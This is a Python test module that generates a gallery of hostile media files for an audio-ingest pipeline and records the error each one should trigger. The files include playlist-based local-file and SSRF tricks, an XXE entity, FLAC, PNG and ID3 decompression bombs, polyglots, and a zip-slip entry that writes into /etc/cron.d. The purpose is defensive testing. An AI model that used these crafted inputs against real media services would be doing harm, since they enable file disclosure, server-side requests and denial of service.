"""A gallery of hostile files, created here, each with its expected outcome.

``{secret}`` is a planted recording, ``{address}`` a listening socket: no file may make us open the one or connect to
the other.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from stenopool.errors import ErrorCode
from tests.speech.audio.media import make, tone

E = ErrorCode


class Attack(NamedTuple):
    """A file's name, the function that writes it, and the allowed error codes; without codes it is a valid
    recording.
    """

    name: str
    write: Callable[[Path, dict[str, str]], object]
    codes: tuple[ErrorCode, ...]


def text(content: str) -> Callable[[Path, dict[str, str]], object]:
    """A text with the traps' addresses filled in."""

    def write(path: Path, traps: dict[str, str]) -> None:
        filled = content
        for name, value in traps.items():
            filled = filled.replace(f"{{{name}}}", value)
        path.write_text(filled, encoding="utf-8")

    return write


HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:9.0,\n{place}\n#EXT-X-ENDLIST\n"
HLS_FILE = HLS.replace("{place}", "{secret}")
HLS_HTTP = HLS.replace("{place}", "http://{address}/part.ts")
HLS_KEY = HLS.replace("#EXTINF", '#EXT-X-KEY:METHOD=AES-128,URI="http://{address}/key"\n#EXTINF').replace(
    "{place}", "{secret}"
)
HLS_CONCAT = HLS.replace("{place}", "concat:http://{address}/header.txt|file://{secret}")
HLS_SUBFILE = HLS.replace("{place}", "subfile,,start,0,end,100,,:{secret}")
HLS_MASTER = "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{address}/next.m3u8\n"
CONCAT = "ffconcat version 1.0\nfile '{secret}'\n"
DASH = """<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S" profiles="full:2011"><Period>
<AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1"><BaseURL>http://{address}/a.mp4</BaseURL>
<SegmentList duration="9"><Initialization sourceURL="file://{secret}"/><SegmentURL media="file://{secret}"/></SegmentList>
</Representation></AdaptationSet></Period></MPD>
"""
SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio {port} RTP/AVP 0\n"
CPL = '<?xml version="1.0"?>\n<CompositionPlaylist><Id>urn:uuid:1</Id><Path>{secret}</Path></CompositionPlaylist>\n'
ENTITY = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b SYSTEM "http://{address}/x">]>\n<MPD>&b;</MPD>\n'
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="file://{secret}"/><image href="http://{address}/x"/></svg>\n'
)


def wav(path: Path, *, rate: int = 16000, channels: int = 1, claims: int | None = None, extra: bytes = b"") -> None:
    """A second of silence as PCM with the given header fields; ``extra`` are chunks before the samples."""
    data = bytes(32000)
    align = min(2 * channels, 65535)
    shape = struct.pack("<HHIIHH", 1, channels, rate, min(rate * align, 2**32 - 1), align, 16)
    body = b"WAVEfmt " + struct.pack("<I", len(shape)) + shape + extra
    body += b"data" + struct.pack("<I", len(data) if claims is None else claims) + data
    path.write_bytes(b"RIFF" + struct.pack("<I", min(len(body), 2**32 - 1)) + body)


def flac_bomb(path: Path, hours: float, rate: int = 8000) -> None:
    """Frames of 65,535 equal samples: 15 bytes for eight seconds. The header does not give the length."""
    info = struct.pack(">HH", 65535, 65535) + bytes(6) + ((rate << 44) | (15 << 36)).to_bytes(8, "big") + bytes(16)
    frames = []
    for number in range(round(hours * 3600 * rate / 65535)):
        # sync, size in 16 bits and rate as in the header, one channel of 16 bits, frame number, size - 1
        head = b"\xff\xf8\x70\x08" + _utf8(number) + struct.pack(">H", 65534)
        frame = head + bytes([_crc(head, 0x07, 8)]) + b"\0\0\0"  # a constant subframe: 0
        frames.append(frame + _crc(frame, 0x8005, 16).to_bytes(2, "big"))
    path.write_bytes(b"fLaC" + bytes([0x80, 0, 0, 34]) + info + b"".join(frames))


def _utf8(number: int) -> bytes:
    return chr(number).encode("utf-8", "surrogatepass")


def _crc(data: bytes, polynomial: int, bits: int) -> int:
    value, top = 0, 1 << (bits - 1)
    for byte in data:
        value ^= byte << (bits - 8)
        for _ in range(8):
            value = ((value << 1) ^ polynomial if value & top else value << 1) & ((1 << bits) - 1)
    return value


def id3(*frames: bytes, claims: int | None = None) -> bytes:
    """An ID3v2.4 tag."""
    body = b"".join(frames)
    return b"ID3\x04\0\0" + _synchsafe(len(body) if claims is None else claims) + body


def id3_frame(name: bytes, body: bytes, *, unpacked: int | None = None) -> bytes:
    """One frame of it; ``unpacked``: compressed, with this claimed length after decompression."""
    if unpacked is None:
        return name + _synchsafe(len(body)) + b"\0\0" + body
    packed = _synchsafe(unpacked) + zlib.compress(body, 9)
    return name + _synchsafe(len(packed)) + b"\0\x09" + packed


def _synchsafe(number: int) -> bytes:
    return bytes((number >> shift) & 0x7F for shift in (21, 14, 7, 0))


def png(width: int, height: int) -> bytes:
    """A picture of this size in some hundred bytes; all its pixels would not fit in memory."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(9999))) + chunk(b"IEND", b"")
    )


def mp3_with(*tags: bytes, after: bytes = b"") -> Callable[[Path, dict[str, str]], object]:
    """A second of tone as MP3 after the tags."""

    def write(path: Path, traps: dict[str, str]) -> None:
        sound = tone(path.with_name("sound.mp3"), 1, "-id3v2_version", "0", "-write_xing", "0")
        path.write_bytes(b"".join(tags) + sound.read_bytes() + after)
        sound.unlink()

    return write


def many_streams(path: Path, traps: dict[str, str]) -> None:
    """Two hundred audio tracks."""
    sound = tone(path.with_name("sound.wav"), 0.1)
    make(path, "-i", sound, *(("-map", "0:a") * 200), "-c:a", "pcm_s16le", "-f", "mov")
    sound.unlink()


def quicktime(path: Path, traps: dict[str, str], change: Callable[[list[bytes], bytes], bytes]) -> None:
    """A QuickTime file of one second; ``change`` maps each of its leaf boxes, given the names of its parents."""
    sound = tone(path.with_name("sound.mov"), 1, "-c:a", "pcm_s16le")
    path.write_bytes(_boxes(sound.read_bytes(), [], change))
    sound.unlink()


def _boxes(data: bytes, way: list[bytes], change: Callable[[list[bytes], bytes], bytes]) -> bytes:
    out = b""
    while len(data) >= 8:
        size, name = struct.unpack(">I4s", data[:8])
        size = max(size, 8)
        body, data = data[8:size], data[size:]
        inner = name in (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"stbl")
        body = _boxes(body, [*way, name], change) if inner else change([*way, name], body)
        out += struct.pack(">I4s", len(body) + 8, name) + body
    return out


def elsewhere(path: Path, traps: dict[str, str]) -> None:
    """A QuickTime track whose samples are in the planted file, by a Macintosh alias."""
    place = traps["secret"].encode()
    place += b"\0" * (len(place) % 2)
    record = bytes(10) + b"\x04disk".ljust(28, b"\0") + bytes(12) + b"\x06secret".ljust(64, b"\0") + bytes(16)
    record += (
        struct.pack(">HH", 1, 1) + bytes(16) + struct.pack(">HH", 2, len(place)) + place + struct.pack(">hH", -1, 0)
    )
    entry = struct.pack(">I4sI", len(record) + 12, b"alis", 0) + record

    def change(way: list[bytes], body: bytes) -> bytes:
        in_sound = way[-1] == b"dref" and b"minf" in way
        return struct.pack(">II", 0, 1) + entry if in_sound else body

    quicktime(path, traps, change)


def claims_entries(box: bytes) -> Callable[[Path, dict[str, str]], object]:
    """A QuickTime table that claims four thousand million entries and has one."""

    def change(way: list[bytes], body: bytes) -> bytes:
        if way[-1] != box:
            return body
        count = 8 if box == b"stsz" else 4
        return body[:count] + b"\xff\xff\xff\xff" + body[count + 4 :]

    return lambda path, traps: quicktime(path, traps, change)


def matroska_claim(path: Path, traps: dict[str, str]) -> None:
    """Codec data that claims a thousand million bytes."""
    sound = tone(path.with_name("sound.mka"), 1, "-c:a", "flac")
    data = sound.read_bytes()
    place = data.index(b"\x63\xa2")  # CodecPrivate
    path.write_bytes(data[:place] + b"\x63\xa2\x08\x3b\x9a\xca\x00"[:2] + b"\x10\x3b\x9a\xca" + data[place + 6 :])
    sound.unlink()


def flac_claim(path: Path, traps: dict[str, str]) -> None:
    """FLAC whose header promises 2^36 - 1 samples, 49 days."""
    tone(path.with_name("sound.flac"), 1).rename(path)
    data = bytearray(path.read_bytes())
    (packed,) = struct.unpack(">Q", data[18:26])
    data[18:26] = struct.pack(">Q", packed | (2**36 - 1))
    path.write_bytes(data)


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../etc/cron.d/x", "* * * * * root true\n")
    return out.getvalue()


def polyglot_wav(path: Path, traps: dict[str, str]) -> None:
    """A WAV whose comment is a playlist."""
    comment = HLS_FILE.replace("{secret}", traps["secret"]).encode()
    comment += b" " * (len(comment) % 2)
    wav(path, extra=b"LIST" + struct.pack("<I", len(comment)) + comment)


def polyglot_playlist(path: Path, traps: dict[str, str]) -> None:
    """An MP3 after a playlist."""
    mp3_with(HLS_FILE.replace("{secret}", traps["secret"]).encode())(path, traps)


def chapters() -> bytes:
    """Ten thousand chapters in an ID3 tag."""
    body = b"".join(id3_frame(b"CHAP", b"%05d\0" % n + struct.pack(">IIII", n, n + 1, 0, 0)) for n in range(10_000))
    return id3(body)


MANY_FRAMES = id3(*(id3_frame(b"TXXX", b"\0%05d\0x" % n) for n in range(100_000)))
PICTURE = id3_frame(b"APIC", b"\0image/png\0\x03\0" + png(30_000, 30_000))
PACKED = id3_frame(b"TXXX", b"\0x\0" + bytes(200_000_000), unpacked=200_000_003)

LISTS = [
    Attack(name, text(content), (E.EXTERNAL_REFERENCE,))
    for name, content in {
        "file.m3u8": HLS_FILE,
        "file-as.wav": HLS_FILE,
        "file-as.mp3": HLS_FILE,
        "http.m3u8": HLS_HTTP,
        "http-as.ogg": HLS_HTTP,
        "key.m3u8": HLS_KEY,
        "concat-in-hls.mp4": HLS_CONCAT,
        "subfile-in-hls.mp4": HLS_SUBFILE,
        "master.m3u8": HLS_MASTER,
        "spaces-before.wav": "\ufeff \n" + HLS_FILE,
        "script.ffconcat": CONCAT,
        "script-as.flac": CONCAT,
        "dash.mpd": DASH,
        "dash-as.m4a": DASH,
        "entity.mpd": ENTITY,
        "call.sdp": SDP,
        "call-as.wav": SDP,
        "list.pls": "[playlist]\nFile1=http://{address}/a.mp3\nNumberOfEntries=1\n",
        "list.asx": '<asx version="3.0"><entry><ref href="http://{address}/a.mp3"/></entry></asx>\n',
        "list.xspf": '<?xml version="1.0"?>\n<playlist version="1"><location>file://{secret}</location></playlist>\n',
        "list.smil": '<smil><body><audio src="http://{address}/a.mp3"/></body></smil>\n',
        "reference.asf": "[Reference]\nRef1=http://{address}/a.asf\n",
        "composition.xml": CPL,
    }.items()
]

OTHERS = [
    Attack("script-without-head.wav", text("file '{secret}'\n"), (E.NOT_AUDIO,)),
    Attack("words.srt", text("1\n00:00:00,000 --> 00:00:09,000\n{secret}\n"), (E.NOT_AUDIO,)),
    Attack("words.vtt", text("WEBVTT\n\n00:00.000 --> 00:09.000\n{secret}\n"), (E.NOT_AUDIO,)),
    Attack("words.ass", text("[Script Info]\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,,,,,,,x\n"), (E.NOT_AUDIO,)),
    Attack("script.avs", text('WAVSource("{secret}")\n'), (E.NOT_AUDIO,)),
    Attack("movie.rtsp", text("RTSPtext\nrtsp://{address}/a\n"), (E.NOT_AUDIO,)),
    Attack("picture.svg", text(SVG), (E.NOT_AUDIO,)),
    Attack("metadata.txt", text(";FFMETADATA1\ntitle={secret}\n"), (E.NOT_AUDIO,)),
    Attack("picture.wav", lambda path, _: path.write_bytes(png(30_000, 30_000)), (E.NOT_AUDIO,)),
    Attack("elsewhere.mov", elsewhere, (E.EXTERNAL_REFERENCE,)),
    # wrong lengths
    Attack("four-gigabytes.wav", lambda path, _: wav(path, claims=0x7FFE_0000), (E.TOO_LONG,)),
    Attack("65535-channels.wav", lambda path, _: wav(path, channels=65535), (E.INPUT_CORRUPT, E.TOO_MANY_CHANNELS)),
    Attack("100-channels.wav", lambda path, _: wav(path, channels=100), (E.TOO_MANY_CHANNELS,)),
    Attack("no-channels.wav", lambda path, _: wav(path, channels=0), ()),  # its other fields mean one channel
    Attack("rate-1.wav", lambda path, _: wav(path, rate=1), (E.SAMPLE_RATE_UNUSABLE,)),
    Attack("rate-2000000000.wav", lambda path, _: wav(path, rate=2_000_000_000), (E.SAMPLE_RATE_UNUSABLE,)),
    Attack("49-days.flac", flac_claim, (E.TOO_LONG,)),
    Attack("huge-stsz.mov", claims_entries(b"stsz"), ()),
    Attack("huge-stts.mov", claims_entries(b"stts"), (E.DECODE_MEMORY,)),
    Attack("huge-stco.mov", claims_entries(b"stco"), ()),
    Attack("huge-stsc.mov", claims_entries(b"stsc"), (E.INPUT_CORRUPT, E.NOT_AUDIO)),
    Attack("huge-codec-data.mka", matroska_claim, ()),
    # bombs
    Attack("nine-hours-in-60-kB.flac", lambda path, _: flac_bomb(path, 9), (E.EXPANDS_TOO_MUCH,)),
    Attack("slow-bomb.flac", lambda path, _: flac_bomb(path, 9, rate=2000), (E.EXPANDS_TOO_MUCH,)),
    Attack("200-streams.mov", many_streams, (E.TOO_MANY_STREAMS,)),
    # polyglots
    Attack("playlist-then.mp3", polyglot_playlist, ()),
    Attack("playlist-in.wav", polyglot_wav, ()),
    Attack("zip-after.mp3", mp3_with(after=zipped()), ()),
    Attack("page-before.mp3", mp3_with(b"<html><script>alert(1)</script></html>\n"), ()),
    Attack("zip.wav", lambda path, _: path.write_bytes(zipped()), (E.NOT_AUDIO,)),
    # ID3
    Attack(
        "id3-claims-256-MB.mp3", lambda path, _: path.write_bytes(id3(claims=2**28 - 1)), (E.NOT_AUDIO, E.INPUT_CORRUPT)
    ),
    Attack("id3-100000-frames.mp3", mp3_with(MANY_FRAMES), (E.DECODE_TIMEOUT,)),
    Attack("id3-10000-chapters.mp3", mp3_with(chapters()), ()),
    Attack("id3-picture-of-4-GB.mp3", mp3_with(id3(PICTURE)), ()),
    Attack("id3-unpacks-to-200-MB.mp3", mp3_with(id3(PACKED)), ()),
]

GALLERY = [*LISTS, *OTHERS]
